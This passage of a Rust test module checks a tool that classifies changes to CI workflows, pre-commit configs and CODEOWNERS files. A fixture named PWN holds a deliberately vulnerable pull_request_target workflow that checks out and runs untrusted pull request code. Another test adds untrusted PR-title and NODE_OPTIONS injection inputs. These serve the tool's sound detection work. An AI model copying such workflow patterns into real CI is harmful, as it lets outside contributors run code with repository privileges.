        let c = run(".github/workflows/ci.yml", CI, &after);
        assert!(c.changes.is_empty(), "{c:?}");
    }

    #[test]
    fn new_actions_conditions_and_runners() {
        let after = CI
            .replace(
                "      - uses: actions/checkout@v4\n",
                "      - uses: actions/checkout@v4\n      - uses: someone/setup-thing@v1\n",
            )
            .replace(
                "    runs-on: ubuntu-latest\n",
                "    runs-on: self-hosted\n    if: false\n",
            );
        let c = run(".github/workflows/ci.yml", CI, &after);
        let k = kinds(&c);
        assert!(k.contains(&"action"), "{c:?}");
        assert!(k.contains(&"runner"), "{c:?}");
        assert!(k.contains(&"condition"), "{c:?}");
    }

    const PRE_COMMIT: &str = "repos:\n  - repo: https://github.com/pre-commit/pre-commit-hooks\n    rev: v4.6.0\n    hooks:\n      - id: check-yaml\n      - id: end-of-file-fixer\n  - repo: https://github.com/astral-sh/ruff-pre-commit\n    rev: v0.6.8\n    hooks:\n      - id: ruff\n";

    #[test]
    fn pre_commit_revs_are_pins_and_removed_hooks_are_not() {
        let after = PRE_COMMIT
            .replace("v4.6.0", "v5.0.0")
            .replace("v0.6.8", "v0.6.9");
        let c = run(".pre-commit-config.yaml", PRE_COMMIT, &after);
        assert_eq!(kinds(&c), vec!["pin_major", "pin"], "{c:?}");
        assert_eq!(
            c.changes[0].detail,
            "https://github.com/pre-commit/pre-commit-hooks v4.6.0 -> v5.0.0"
        );
        assert_eq!(c.changes[1].line, 8);
        let dropped = PRE_COMMIT.replace("      - id: end-of-file-fixer\n", "");
        let d = run(".pre-commit-config.yaml", PRE_COMMIT, &dropped);
        assert_eq!(kinds(&d), vec!["hook"], "{d:?}");
    }

    #[test]
    fn added_workflows_and_codeowners() {
        let c = run(".github/workflows/new.yml", "", CI);
        assert_eq!(kinds(&c), vec!["workflow_added"]);
        assert_eq!(c.changes[0].line, 1);
        let o = run(
            "CODEOWNERS",
            "# owners\n* @org/core\n",
            "# owners\n* @org/core\n/infra/ @org/platform\n",
        );
        assert_eq!(kinds(&o), vec!["owners"]);
        assert_eq!(o.changes[0].line, 3);
    }

    const PWN: &str = "on:\n  pull_request_target:\n    types: [opened, synchronize]\npermissions:\n  contents: read\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: npm ci && npm test\n";

    #[test]
    fn pull_request_target_checking_out_the_head_is_found() {
        let u = untrusted_checkout(PWN).expect("found");
        assert_eq!(u.line, 12);
        assert_eq!(u.trigger, "pull_request_target");
        assert!(u.r#ref.contains("head.sha"));
        // The safe variants: the base (no ref), or the pull_request trigger.
        assert!(untrusted_checkout(&PWN.replace(
            "        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n",
            ""
        ))
        .is_none());
        assert!(untrusted_checkout(&PWN.replace("pull_request_target", "pull_request")).is_none());
        let gh = PWN.replace(
            "      - run: npm ci",
            "      - run: gh pr checkout ${{ github.event.number }}\n      - run: npm ci",
        );
        assert!(untrusted_checkout(&gh.replace(
            "        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n",
            ""
        ))
        .is_some());
        assert!(untrusted_checkout("not: [valid").is_none());
        let c = run(".github/workflows/pr.yml", "", PWN);
        assert!(c.untrusted_checkout.is_some() && !c.untrusted_checkout_before);
    }

    #[test]
    fn numbers_only_differences_are_version_moves_but_not_in_triggers() {
        let before = "env:\n  TFLINT_VERSION: v0.44.1\njobs:\n  r:\n    steps:\n      - uses: x/release@v4\n        with:\n          extra_plugins: |\n            @semantic-release/git@10.0.0\non:\n  push:\n    branches: [release-1.2]\n";
        let after = before
            .replace("v0.44.1", "v0.50.3")
            .replace("git@10.0.0", "git@10.0.1")
            .replace("release-1.2", "release-1.3");
        let c = run(".github/workflows/r.yml", before, &after);
        assert_eq!(
            kinds(&c),
            vec!["pin_major", "pin", "trigger", "trigger"],
            "{c:?}"
        );
        assert_eq!(c.changes[0].detail, "TFLINT_VERSION v0.44.1 -> v0.50.3");
        assert_eq!(
            c.changes[1].detail,
            "@semantic-release/git@10.0.0 -> @semantic-release/git@10.0.1"
        );
        assert_eq!(
            numbers_masked("uses: a/b@v1.2.3 # v1"),
            Some("uses: a/b@# # #".to_string())
        );
        assert_eq!(numbers_masked("contents: read"), None);
    }

    #[test]
    fn a_permissions_block_that_narrows_is_not_widened() {
        let after = CI.replace(
            "    runs-on: ubuntu-latest\n",
            "    runs-on: ubuntu-latest\n    permissions:\n      pull-requests: read\n",
        );
        let c = run(".github/workflows/ci.yml", CI, &after);
        assert_eq!(kinds(&c), vec!["permission", "permission"], "{c:?}");
    }

    #[test]
    fn sensitive_inputs_and_untrusted_contexts() {
        let after = CI
            .replace("      - uses: actions/checkout@v4\n", "      - uses: actions/checkout@v4\n        with:\n          ref: main\n          fetch-depth: 0\n")
            .replace("          go test ./...\n", "          go test ./...\n        env:\n          TITLE: ${{ github.event.pull_request.title }}\n          NODE_OPTIONS: --require ./x.js\n          LOG_LEVEL: debug\n");
        let c = run(".github/workflows/ci.yml", CI, &after);
        let inputs: Vec<&str> = c
            .changes
            .iter()
            .filter(|x| x.kind == "input")
            .map(|x| x.detail.as_str())
            .collect();
        assert_eq!(
            inputs,
            vec![
                "ref: main",
                "TITLE: ${{ github.event.pull_request.title }}",
                "NODE_OPTIONS: --require ./x.js"
            ],
            "{c:?}"
        );
        assert!(
            c.changes
                .iter()
                .any(|x| x.kind == "other" && x.detail == "fetch-depth: 0"),
            "{c:?}"
        );
    }

    #[test]
    fn without_images_the_line_itself_is_classified() {
        let after = CI.replace("checkout@v4", "checkout@v5");
        let f = change(".github/workflows/ci.yml", CI, &after);
        let c = analyze(&f, "github_workflow", None, None);
        assert_eq!(kinds(&c), vec!["pin_major"]);
    }
}
